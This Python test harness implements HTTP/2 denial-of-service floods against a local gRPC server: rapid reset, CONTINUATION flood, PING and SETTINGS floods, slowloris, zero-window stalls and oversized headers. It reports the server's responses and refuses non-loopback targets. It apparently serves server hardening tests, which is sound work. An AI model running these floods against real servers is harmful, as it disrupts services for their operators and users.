#!/usr/bin/env python3
"""Raw HTTP/2 floods against a gRPC server on loopback, for the abuse tests.

One subcommand per flood. Every flood is bounded by --seconds and by a count,
and prints one JSON object on stdout: what it sent, and what the server did
(frames received by type, RST_STREAM codes, GOAWAY and its code, grpc-status
of the responses, whether the server closed the connection).

Requests are built with h2 (H2Connection, client side); what the server sends
is parsed frame by frame here (hyperframe/hpack), so nothing is lost when h2
would drop frames on streams it already reset. The continuation and
big-header floods hand-build their frames, because h2 will not send a header
block without END_HEADERS.

Only loopback targets are accepted.

    python3 tests/harness/floods.py rapid-reset --port 50051 --seconds 5
"""

import argparse
import ipaddress
import json
import select
import socket
import struct
import sys
import time
from collections import Counter

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Decoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

SERVICE = "/messenger.LearningMessenger/"
FRAME_TYPES = {
    0: "DATA",
    1: "HEADERS",
    2: "PRIORITY",
    3: "RST_STREAM",
    4: "SETTINGS",
    5: "PUSH_PROMISE",
    6: "PING",
    7: "GOAWAY",
    8: "WINDOW_UPDATE",
    9: "CONTINUATION",
}
# An empty protobuf message in gRPC's framing: not compressed, length 0.
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def topic_request(topic: str) -> bytes:
    data = topic.encode()
    return grpc_message(b"\x0a" + bytes([len(data)]) + data)


def code_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def request_headers(port: int, method: str) -> list:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", SERVICE + method),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


class Receiver:
    """Parses the server's frames from raw bytes and counts what it did."""

    def __init__(self):
        self.started = time.monotonic()
        self.buf = bytearray()
        self.frames = Counter()
        self.rst = Counter()
        self.grpc_status = Counter()
        self.goaway = None
        self.server_settings = {}
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.header_block = None
        self.bytes = 0
        self.acks_owed = 0  # SETTINGS frames of the server not yet acknowledged

    def feed(self, data: bytes):
        self.bytes += len(data)
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                break
            ftype = self.buf[3]
            flags = self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.buf[9 : 9 + length])
            del self.buf[: 9 + length]
            self.frame(ftype, flags, stream, payload)

    def frame(self, ftype, flags, stream, payload):
        name = FRAME_TYPES.get(ftype, f"type{ftype}")
        if ftype == 6 and flags & 1:
            name = "PING_ACK"
        if ftype == 4 and flags & 1:
            name = "SETTINGS_ACK"
        self.frames[name] += 1
        if ftype == 3 and len(payload) >= 4:
            self.rst[code_name(int.from_bytes(payload[:4], "big"))] += 1
        elif ftype == 7 and len(payload) >= 8:
            self.goaway = {
                "error": code_name(int.from_bytes(payload[4:8], "big")),
                "last_stream_id": int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                "debug": payload[8:200].decode("utf-8", "replace"),
                # Since the connection was opened, or the flood began.
                "after_s": round(time.monotonic() - self.started, 3),
            }
        elif ftype == 4 and not flags & 1:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i : i + 6])
                try:
                    key = SettingCodes(ident).name
                except ValueError:
                    key = f"0x{ident:x}"
                self.server_settings[key] = value
            self.acks_owed += 1
        elif ftype == 1:
            if flags & 0x8:  # PADDED
                pad = payload[0]
                payload = payload[1 : len(payload) - pad]
            if flags & 0x20:  # PRIORITY
                payload = payload[5:]
            self.header_block = bytearray(payload)
            if flags & 0x4:
                self.headers_done()
        elif ftype == 9 and self.header_block is not None:
            self.header_block += payload
            if flags & 0x4:
                self.headers_done()

    def headers_done(self):
        try:
            headers = self.decoder.decode(bytes(self.header_block), raw=False)
        except Exception as e:  # a decoding bug here must not stop the flood
            self.grpc_status[f"undecodable: {type(e).__name__}"] += 1
            headers = []
        self.header_block = None
        for name, value in headers:
            if name == "grpc-status":
                self.grpc_status[value] += 1

    def report(self):
        return {
            "bytes": self.bytes,
            "frames": dict(self.frames),
            "rst_stream": dict(self.rst),
            "goaway": self.goaway,
            "grpc_status": dict(self.grpc_status),
            "server_settings": self.server_settings,
        }


class Conn:
    """One plaintext HTTP/2 client connection: h2 to build, Receiver to read."""

    def __init__(self, host, port, settings=None, unlimited_streams=False, connect_timeout=5):
        self.sock = socket.create_connection((host, port), timeout=connect_timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = UnlimitedH2Connection(config) if unlimited_streams else h2.connection.H2Connection(config)
        if settings:
            self.h2.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.rx = Receiver()
        self.closed = None  # why the connection ended, if it did
        self.eof = False  # nothing more to read
        self.send_blocked = False
        self.broken = False  # a frame was half written: no more sends
        self.port = port
        self.on_data = None  # also given every byte read, if set
        self.h2.initiate_connection()
        self.flush()

    def read(self, timeout=0.0):
        """Reads what is there (waiting up to `timeout` for the first bytes)."""
        if self.eof:
            return
        deadline = time.monotonic() + timeout
        while True:
            try:
                data = self.sock.recv(1 << 20)
            except BlockingIOError:
                left = deadline - time.monotonic()
                if left <= 0:
                    return
                select.select([self.sock], [], [], left)
                continue
            except OSError as e:
                self.closed = self.closed or f"recv: {type(e).__name__}"
                self.eof = True
                return
            if not data:
                self.closed = self.closed or "EOF"
                self.eof = True
                return
            self.rx.feed(data)
            if self.on_data:
                self.on_data(data)

    def send(self, data: bytes, deadline: float, read=True) -> bool:
        """Writes all of `data` before `deadline`, reading meanwhile if `read`.
        False if the server stopped reading (so the flood stops) or closed.
        SETTINGS acks owed go first (only here: between whole frames)."""
        if self.broken:
            return False
        if self.rx.acks_owed:
            data = frame_bytes(SettingsFrame(0, flags=["ACK"])) * self.rx.acks_owed + data
            self.rx.acks_owed = 0
        view = memoryview(data)
        while view:
            if self.closed:
                return False
            try:
                n = self.sock.send(view)
                view = view[n:]
                continue
            except BlockingIOError:
                pass
            except OSError as e:
                self.closed = f"send: {type(e).__name__}"
                self.broken = True
                return False
            left = deadline - time.monotonic()
            if left <= 0:
                self.send_blocked = True
                self.broken = len(view) < len(data)
                return False
            readable, _, _ = select.select([self.sock] if read else [], [self.sock], [], min(left, 0.5))
            if readable:
                self.read()
        return True

    def flush(self, deadline=None, read=True) -> bool:
        data = self.h2.data_to_send()
        return self.send(data, deadline or time.monotonic() + 5, read)

    def drain(self, seconds):
        """After a flood: collects what the server still sends, for `seconds`."""
        end = time.monotonic() + seconds
        while not self.eof and time.monotonic() < end:
            self.read(min(0.2, max(0.0, end - time.monotonic())))
            if self.rx.acks_owed:
                self.send(b"", end)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def report(self):
        out = self.rx.report()
        out["closed_by_server"] = self.closed
        out["send_blocked"] = self.send_blocked
        return out


class UnlimitedH2Connection(h2.connection.H2Connection):
    """Ignores the server's MAX_CONCURRENT_STREAMS: opening more is the attack."""

    @property
    def open_outbound_streams(self):
        return 0


def frame_bytes(frame) -> bytes:
    return frame.serialize()


def emit(flood, args, started, sent, server, **extra):
    out = {
        "flood": flood,
        "target": f"{args.host}:{args.port}",
        "seconds": round(time.monotonic() - started, 3),
        "sent": sent,
        "server": server,
    }
    out.update(extra)
    print(json.dumps(out, sort_keys=True))


# --- the floods ---------------------------------------------------------------


def rapid_reset(args):
    """HEADERS (no END_STREAM) + RST_STREAM(CANCEL), as fast as possible."""
    started = time.monotonic()
    end = started + args.seconds
    conn = Conn(args.host, args.port)
    conn.read(1.0)  # the server's SETTINGS
    headers = request_headers(args.port, "GetLearningStatus")
    conn.rx.started = time.monotonic()  # a GOAWAY's time counts from here
    streams = 0
    before_goaway = None
    stream_id = 1
    while streams < args.count and time.monotonic() < end and not conn.closed:
        for _ in range(args.batch):
            conn.h2.send_headers(stream_id, headers)
            conn.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
            stream_id += 2
            streams += 1
        if not conn.flush(end):
            break
        conn.read()
        if conn.rx.goaway and before_goaway is None:
            before_goaway = streams
    conn.drain(args.drain)
    conn.close()
    sent = {"streams": streams, "frames": streams * 2, "last_stream_id": stream_id - 2}
    if before_goaway is not None:
        sent["streams_before_goaway"] = before_goaway
    emit("rapid-reset", args, started, sent, conn.report())


def late_reset(args):
    """Rounds of --batch streams (HEADERS only: the calls start and wait for their request), reset all at once with the next round's HEADERS."""
    started = time.monotonic()
    end = started + args.seconds
    conn = Conn(args.host, args.port, unlimited_streams=True)
    conn.read(1.0)
    headers = request_headers(args.port, "GetLearningStatus")
    conn.rx.started = time.monotonic()
    streams = 0
    stream_id = 1
    previous = []
    while streams < args.count and time.monotonic() < end and not conn.closed:
        # The last round's calls have started: reset them, and open the next
        # round in the same write, while their calls are still unfinished.
        for sid in previous:
            conn.h2.reset_stream(sid, ErrorCodes.CANCEL)
        previous = []
        for _ in range(args.batch):
            conn.h2.send_headers(stream_id, headers)
            previous.append(stream_id)
            stream_id += 2
            streams += 1
        if not conn.flush(end):
            break
        conn.read(args.pause_ms / 1000)
    conn.drain(args.drain)
    conn.close()
    emit("late-reset", args, started, {"streams": streams, "last_stream_id": stream_id - 2}, conn.report())


def stall(args):
    """Many StreamLearnings streams, with a zero window so the server cannot send."""
    started = time.monotonic()
    end = started + args.seconds
    conn = Conn(
        args.host,
        args.port,
        settings={SettingCodes.INITIAL_WINDOW_SIZE: args.window, SettingCodes.ENABLE_PUSH: 0},
        unlimited_streams=True,
    )
    conn.read(1.0)
    headers = request_headers(args.port, "StreamLearnings")
    body = topic_request("flood")
    streams = 0
    stream_id = 1
    while streams < args.streams and time.monotonic() < end and not conn.closed:
        conn.h2.send_headers(stream_id, headers)
        conn.h2.send_data(stream_id, body, end_stream=True)
        stream_id += 2
        streams += 1
        if streams % 50 == 0 and not conn.flush(end):
            break
    conn.flush(end)
    # Hold the streams, reading frames (but never opening the window).
    while time.monotonic() < end and not conn.eof:
        conn.read(0.2)
        conn.send(b"", end)
    conn.drain(0.5)
    conn.close()
    emit(
        "stall",
        args,
        started,
        {"streams": streams, "initial_window_size": args.window},
        conn.report(),
    )


def raw_flood(args, name, frame: bytes):
    """Sends one pre-built frame over and over, reading only every --read-every."""
    started = time.monotonic()
    end = started + args.seconds
    conn = Conn(args.host, args.port)
    conn.read(1.0)
    conn.send(b"", end)  # our SETTINGS ack
    batch = frame * args.batch
    sent = 0
    while sent < args.count and time.monotonic() < end and not conn.closed:
        # read=False: the flood does not read while it writes...
        if not conn.send(batch, end, read=False):
            break
        sent += args.batch
        # ...but it reads now and then, to see a GOAWAY. After the first
        # batch it waits a little: a server that closes with our frames still
        # unread sends a TCP reset, which drops the GOAWAY it had not yet sent.
        if sent == args.batch:
            conn.read(0.3)
        elif args.read_every and sent % args.read_every < args.batch:
            conn.read()
    conn.drain(args.drain)
    conn.close()
    emit(name, args, started, {"frames": sent}, conn.report())


def ping_flood(args):
    """PING frames as fast as the socket takes them, reading rarely."""
    raw_flood(args, "ping-flood", frame_bytes(PingFrame(0, opaque_data=b"floodpng")))


def settings_flood(args):
    """SETTINGS frames (each needs an ACK) as fast as possible, reading rarely."""
    frame = SettingsFrame(0, settings={SettingCodes.MAX_CONCURRENT_STREAMS: 100})
    raw_flood(args, "settings-flood", frame_bytes(frame))


def literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, new name, no Huffman."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def hpack_int(value: int, prefix: int) -> bytes:
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out = bytearray([limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def header_preamble(args):
    conn = Conn(args.host, args.port)
    conn.read(1.0)
    conn.flush()
    # Literals without indexing: the server's HPACK table stays as h2's encoder
    # thinks it is, so h2 can still send a normal request afterwards.
    block = b"".join(literal(n.encode(), v.encode()) for n, v in request_headers(args.port, "GetLearningStatus"))
    return conn, bytearray(block)


def continuation_flood(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end."""
    started = time.monotonic()
    end = started + args.seconds
    conn, block = header_preamble(args)
    chunk = bytearray()
    i = 0
    while len(chunk) < args.frame_size - 200:
        chunk += literal(b"x-flood-%d" % i, b"v" * 100)
        i += 1
    per_frame = i
    cont = frame_bytes(ContinuationFrame(1, data=bytes(chunk)))
    first = frame_bytes(HeadersFrame(1, data=block, flags=["END_STREAM"]))
    frames = 1
    ok = conn.send(first, end)
    batch = cont * args.batch
    while ok and frames - 1 < args.count and time.monotonic() < end and not conn.closed:
        if not conn.send(batch, end):
            break
        frames += args.batch
        conn.read()
    conn.drain(args.drain)
    conn.close()
    emit(
        "continuation-flood",
        args,
        started,
        {
            "frames": frames,
            "continuation_frames": frames - 1,
            "header_fields": (frames - 1) * per_frame,
            "header_bytes": (frames - 1) * len(chunk),
        },
        conn.report(),
    )


def big_headers(args):
    """One request whose header list is one huge value (over any limit)."""
    started = time.monotonic()
    end = started + args.seconds
    conn, block = header_preamble(args)
    block += literal(b"x-big", b"b" * args.size)
    size = 16384
    pieces = [block[i : i + size] for i in range(0, len(block), size)]
    out = bytearray()
    for n, piece in enumerate(pieces):
        last = n == len(pieces) - 1
        if n == 0:
            flags = ["END_STREAM"] + (["END_HEADERS"] if last else [])
            out += frame_bytes(HeadersFrame(1, data=bytes(piece), flags=flags))
        else:
            out += frame_bytes(ContinuationFrame(1, data=bytes(piece), flags=["END_HEADERS"] if last else []))
    conn.send(bytes(out), end)
    # A normal request after it, on the same connection: is it still served?
    conn.h2.send_headers(3, request_headers(args.port, "GetLearningStatus"))
    conn.h2.send_data(3, EMPTY_MESSAGE, end_stream=True)
    conn.flush(end)
    conn.drain(min(args.drain, max(0.5, end - time.monotonic())))
    conn.close()
    emit(
        "big-headers",
        args,
        started,
        {"header_value_bytes": args.size, "frames": len(pieces), "then_normal_request": True},
        conn.report(),
    )


def slowloris(args):
    """Connections that never send the HTTP/2 preface, held open."""
    started = time.monotonic()
    end = started + args.seconds
    socks = []
    failed = Counter()
    for _ in range(args.connections):
        if time.monotonic() >= end:
            break
        try:
            s = socket.create_connection((args.host, args.port), timeout=2)
            s.setblocking(False)
            socks.append(s)
        except OSError as e:
            failed[type(e).__name__] += 1
    closed = {}
    received = 0
    while time.monotonic() < end and len(closed) < len(socks):
        readable, _, _ = select.select([s for s in socks if s.fileno() not in closed], [], [], 0.5)
        for s in readable:
            try:
                data = s.recv(65536)
            except OSError as e:
                closed[s.fileno()] = type(e).__name__
                continue
            if data:
                received += len(data)
            else:
                closed[s.fileno()] = "EOF"
    held = round(time.monotonic() - started, 3)
    for s in socks:
        s.close()
    emit(
        "slowloris",
        args,
        started,
        {"connections": len(socks), "connect_failures": dict(failed)},
        {"bytes": received, "closed_by_server": len(closed), "close_reasons": dict(Counter(closed.values()))},
        held_seconds=held,
    )


def no_read(args):
    """Connections that send requests, open their windows wide, and never read."""
    started = time.monotonic()
    end = started + args.seconds
    conns = []
    streams = 0
    big = 2**31 - 1
    for _ in range(args.connections):
        conn = Conn(
            args.host,
            args.port,
            settings={SettingCodes.INITIAL_WINDOW_SIZE: big, SettingCodes.ENABLE_PUSH: 0},
            unlimited_streams=True,
        )
        conn.send(frame_bytes(WindowUpdateFrame(0, window_increment=big - 65535)), end, read=False)
        conns.append(conn)
    methods = [
        ("StreamLearnings", topic_request("flood")),
        ("GetLearningStatus", EMPTY_MESSAGE),
    ]
    for conn in conns:
        stream_id = 1
        for n in range(args.streams):
            method, body = methods[n % 2]
            conn.h2.send_headers(stream_id, request_headers(args.port, method))
            conn.h2.send_data(stream_id, body, end_stream=True)
            stream_id += 2
            streams += 1
        if not conn.flush(end, read=False):
            continue
    while time.monotonic() < end:
        time.sleep(0.1)
    # Only now, after the attack, look at what the server sent.
    pending = 0
    for conn in conns:
        try:
            pending += len(conn.sock.recv(0, socket.MSG_PEEK | socket.MSG_DONTWAIT) or b"")
        except OSError:
            pass
        conn.drain(0.3)
    total = Receiver()
    closed = Counter()
    blocked = 0
    for conn in conns:
        conn.close()
        total.frames.update(conn.rx.frames)
        total.rst.update(conn.rx.rst)
        total.grpc_status.update(conn.rx.grpc_status)
        total.bytes += conn.rx.bytes
        if conn.rx.goaway:
            total.goaway = conn.rx.goaway
        if conn.closed:
            closed[conn.closed] += 1
        blocked += conn.send_blocked
    server = total.report()
    server["closed_by_server"] = dict(closed)
    server["send_blocked_connections"] = blocked
    emit(
        "no-read",
        args,
        started,
        {"connections": len(conns), "streams": streams, "streams_per_connection": args.streams},
        server,
    )


def declared(args):
    """Unary calls on one connection, each declaring a huge message in its length prefix and sending what the windows let."""
    started = time.monotonic()
    end = started + args.seconds
    conn = Conn(args.host, args.port)
    h2c = conn.h2
    prefix = b"\x00" + struct.pack(">I", args.declared)
    chunk = b"d" * 16384
    # stream id -> {"sent": body bytes sent, "at": when its prefix went, "status", "after_s", "window_updates"}
    streams = {}
    window_updates = Counter()  # WINDOW_UPDATEs the server gave each stream

    def on_data(data):
        conn.rx.acks_owed = 0  # h2 acknowledges the server's SETTINGS itself
        try:
            events = h2c.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            conn.closed = conn.closed or f"h2: {type(e).__name__}: {e}"
            return
        for event in events:
            stream = getattr(event, "stream_id", 0)
            if isinstance(event, h2.events.WindowUpdated) and stream:
                window_updates[stream] += 1
            headers = getattr(event, "headers", None)
            if stream in streams and headers:
                status = dict(headers).get("grpc-status")
                if status is not None and streams[stream]["status"] is None:
                    streams[stream]["status"] = status
                    streams[stream]["after_s"] = round(time.monotonic() - streams[stream]["at"], 3)

    conn.on_data = on_data
    conn.read(0.2)
    for _ in range(args.streams):
        stream = h2c.get_next_available_stream_id()
        h2c.send_headers(stream, request_headers(args.port, "GetLearningStatus"))
        h2c.send_data(stream, prefix)
        streams[stream] = {"sent": 0, "at": time.monotonic(), "status": None, "after_s": None}
    conn.flush(end)

    def open_streams():
        return [s for s, st in streams.items() if st["status"] is None and st["sent"] < args.send]

    # Each stream sends its body as its window allows, until the server
    # answers it, it has sent --send bytes, or the time is up.
    while time.monotonic() < end and not conn.eof and any(st["status"] is None for st in streams.values()):
        progressed = False
        for stream in open_streams():
            try:
                window = min(h2c.local_flow_control_window(stream), h2c.max_outbound_frame_size, len(chunk))
                window = min(window, args.send - streams[stream]["sent"])
                if window > 0:
                    h2c.send_data(stream, chunk[:window])
                    streams[stream]["sent"] += window
                    progressed = True
            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                continue
        if progressed:
            conn.flush(end)
        conn.read(0.0 if progressed else 0.05)
    conn.drain(args.drain)
    conn.close()
    answered = [st["after_s"] for st in streams.values() if st["after_s"] is not None]
    emit(
        "declared",
        args,
        started,
        {
            "streams": len(streams),
            "declared_bytes": args.declared,
            "body_bytes": sum(st["sent"] for st in streams.values()),
            "most_body_bytes_on_a_stream": max((st["sent"] for st in streams.values()), default=0),
        },
        conn.report(),
        answered=len(answered),
        status_of_streams=dict(Counter(st["status"] or "none" for st in streams.values())),
        slowest_status_s=max(answered, default=None),
        window_updates_on_streams=sum(window_updates.values()),
    )


def no_flood(args):
    """No attack: the same time with nothing sent, a control for the legitimate client's figures."""
    started = time.monotonic()
    time.sleep(args.seconds)
    emit("none", args, started, {}, {})


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    sub = parser.add_subparsers(dest="flood", required=True)

    def add(name, func, seconds=5.0, **counts):
        p = sub.add_parser(name, help=func.__doc__.strip().splitlines()[0])
        p.set_defaults(func=func)
        p.add_argument("--seconds", type=float, default=seconds, help="upper bound on the flood's duration")
        p.add_argument("--drain", type=float, default=2.0, help="seconds to read the server's answers afterwards")
        for key, (default, help_text) in counts.items():
            p.add_argument("--" + key.replace("_", "-"), type=int, default=default, help=help_text)
        return p

    add("none", no_flood)
    add("rapid-reset", rapid_reset, count=(1_000_000, "most streams to open and reset"), batch=(100, "streams per write"))
    add(
        "late-reset",
        late_reset,
        count=(1_000_000, "most streams to open"),
        batch=(2000, "streams per round"),
        pause_ms=(200, "wait for a round's calls to start, in ms"),
    )
    add("stall", stall, streams=(500, "streams to open"), window=(0, "INITIAL_WINDOW_SIZE we advertise"))
    # Ping: reading after each write catches the GOAWAY before the reset that
    # the server's close sends on a socket with unread pings.
    for name, func, read_every in (("ping-flood", ping_flood, 1000), ("settings-flood", settings_flood, 100_000)):
        add(
            name,
            func,
            count=(10_000_000, "most frames"),
            batch=(1000, "frames per write"),
            read_every=(read_every, "read the socket after this many frames (0: never)"),
        )
    add(
        "continuation-flood",
        continuation_flood,
        count=(1_000_000, "most CONTINUATION frames"),
        batch=(16, "frames per write"),
        frame_size=(16384, "bytes per CONTINUATION frame"),
    )
    add("big-headers", big_headers, size=(1 << 20, "bytes in the one header value"))
    add(
        "declared",
        declared,
        seconds=30.0,
        streams=(200, "calls on the connection"),
        declared=(1 << 30, "bytes each call's length prefix declares"),
        send=(8 << 20, "body bytes each call tries to send"),
    )
    add("slowloris", slowloris, connections=(300, "connections that never send the preface"))
    add(
        "no-read",
        no_read,
        connections=(20, "connections"),
        streams=(1000, "requests per connection (past MAX_CONCURRENT_STREAMS on purpose)"),
    )
    args = parser.parse_args()
    if not ipaddress.ip_address(socket.gethostbyname(args.host)).is_loopback:
        sys.exit("floods.py: loopback targets only")
    args.func(args)


if __name__ == "__main__":
    main()
